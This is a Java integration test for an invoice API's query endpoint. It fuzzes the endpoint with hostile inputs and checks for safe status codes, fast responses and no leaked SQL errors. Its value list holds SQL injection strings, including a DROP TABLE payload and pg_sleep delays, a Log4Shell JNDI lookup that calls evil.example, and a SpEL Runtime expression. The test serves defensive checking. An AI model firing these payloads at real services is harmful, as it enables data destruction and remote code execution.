package io.ledgerway.system.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import io.ledgerway.system.running.RunningSystem;
import io.ledgerway.system.strict.Api;
import io.ledgerway.system.strict.ApiResponse;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/** Queries that try to leave the query language, or to be expensive: 200 or 400, and soon. */
@Tag("hostile")
class QueryIT {

    /** Far above what any query needs, far below a timeout. */
    private static final Duration SOON = Duration.ofSeconds(8);

    private static final List<String> VALUES =
            List.of(
                    "'",
                    "''",
                    "\"",
                    "'; DROP TABLE record; --",
                    "' OR '1'='1",
                    "x' || pg_sleep(9) || '",
                    "1) OR (1=1",
                    "1; SELECT pg_sleep(9)",
                    "/**/",
                    "\\",
                    "\u0000",
                    "%",
                    "_",
                    "$1",
                    ":name",
                    "?",
                    "{0}",
                    "${jndi:ldap://evil.example/x}",
                    "#{T(java.lang.Runtime)}",
                    "1e999999999",
                    "-1e999999999",
                    "NaN",
                    "Infinity",
                    "9".repeat(400),
                    "0x10",
                    "\u0663\u0664",
                    "\u202e1",
                    "2026-13-45",
                    "0000-00-00",
                    "+292278994-08-17",
                    "2026-02-30T25:61:61Z",
                    "null",
                    "true",
                    "[]",
                    "{}",
                    "a".repeat(3000));

    private static final List<String> PROPERTIES =
            List.of(
                    "id",
                    "amountDue",
                    "status",
                    "issueDate",
                    "customerRef.id",
                    "lineItems.description",
                    "metadata.isDeleted",
                    "id' OR 1=1 --",
                    "body->>'id'",
                    "company_id",
                    "a.b.c.d.e.f",
                    "__proto__",
                    "class.name",
                    "");

    private static final List<String> OPERATORS =
            List.of("=", "!=", ">", "<", ">=", "<=", "~", "==", "=~", " LIKE ", " IN ", "<>");

    private final RunningSystem system = RunningSystem.shared();
    private final Api api = new Api(system.gateway(), system.apiKey("demo"));
    private final String company = harbour();

    @Test
    void aValueIsNeverCode() {
        List<String> queries = new ArrayList<>();
        for (String value : VALUES) {
            for (String property : List.of("id", "amountDue", "issueDate")) {
                queries.add("query=" + encoded(property + "=" + value));
            }
            queries.add("orderBy=" + encoded(value));
            queries.add("page=" + encoded(value));
            queries.add("pageSize=" + encoded(value));
        }
        assertThat(Campaign.run(queries, this::ask)).isEmpty();
    }

    @Test
    void expensiveQueriesEndSoon() {
        List<String> queries = new ArrayList<>();
        for (String query :
                List.of(
                        "(".repeat(49) + "id=1" + ")".repeat(49),
                        "(".repeat(600) + "id=1" + ")".repeat(600),
                        "(".repeat(3000),
                        String.join("||", Collections.nCopies(340, "amountDue>1")),
                        String.join("&&", Collections.nCopies(340, "amountDue>1")),
                        String.join("||", Collections.nCopies(80, "lineItems.description~a")),
                        "id~" + "%_".repeat(1000),
                        "id~" + "a*".repeat(1000))) {
            queries.add("query=" + encoded(query));
        }
        for (String page : List.of("2147483647", "2147483648", "-1", "0", "9223372036854775807")) {
            queries.add("page=" + page + "&pageSize=5000");
        }
        queries.add("orderBy=" + encoded("-amountDue,".repeat(300)));
        queries.add("query=" + "id%3D1%26%26".repeat(700) + "id%3D1");
        assertThat(Campaign.run(queries, this::ask)).isEmpty();
    }

    @Test
    void noRandomQueryFails() {
        Random random = Campaign.random(QueryIT.class);
        List<String> queries = new ArrayList<>();
        for (int i = 0; i < Campaign.times(80, 5000); i++) {
            queries.add("query=" + encoded(expression(random, 4)));
        }
        assertThat(Campaign.run(queries, this::ask)).isEmpty();
    }

    /** A condition that is always true shows nothing of other companies. */
    @Test
    void noQueryShowsRecordsOfAnotherCompany() {
        int all = api.get(invoices() + "?pageSize=1").body().get("totalResults").asInt();
        for (String query : List.of("amountDue>=0||amountDue<0", "id!=x")) {
            ApiResponse answer = api.get(invoices() + "?pageSize=1&query=" + encoded(query));
            assertThat(answer.body().get("totalResults").asInt()).as(query).isEqualTo(all);
        }
    }

    private List<String> ask(String query) {
        long began = System.nanoTime();
        ApiResponse answer = api.ours("GET", invoices() + "?" + query, "");
        Duration taken = Duration.ofNanos(System.nanoTime() - began);
        List<String> wrong = new ArrayList<>();
        if (!List.of(200, 400, 414, 431).contains(answer.status())) {
            wrong.add(query + ": " + answer.status() + " " + answer.raw());
        }
        if (taken.compareTo(SOON) > 0) {
            wrong.add(query + ": " + taken);
        }
        if (answer.raw().contains("SQL") || answer.raw().contains("org.postgresql")) {
            wrong.add(query + ": " + answer.raw());
        }
        return wrong;
    }

    private String expression(Random random, int depth) {
        if (depth == 0 || random.nextInt(3) == 0) {
            return one(random, PROPERTIES) + one(random, OPERATORS) + one(random, VALUES);
        }
        String left = expression(random, depth - 1);
        String right = expression(random, depth - 1);
        return switch (random.nextInt(5)) {
            case 0 -> "(" + left + ")&&" + right;
            case 1 -> left + "||(" + right + ")";
            case 2 -> "(" + left;
            case 3 -> "!" + left;
            default -> left + "{" + right + "}";
        };
    }

    private static String one(Random random, List<String> of) {
        return of.get(random.nextInt(of.size()));
    }

    private static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private String invoices() {
        return "/companies/" + company + "/data/invoices";
    }

    /** A company of the demo data, with records. */
    private String harbour() {
        return api.get("/companies?query=name%3DHarbour%20Bakery&orderBy=created&pageSize=1")
                .body()
                .at("/results/0/id")
                .asString();
    }
}
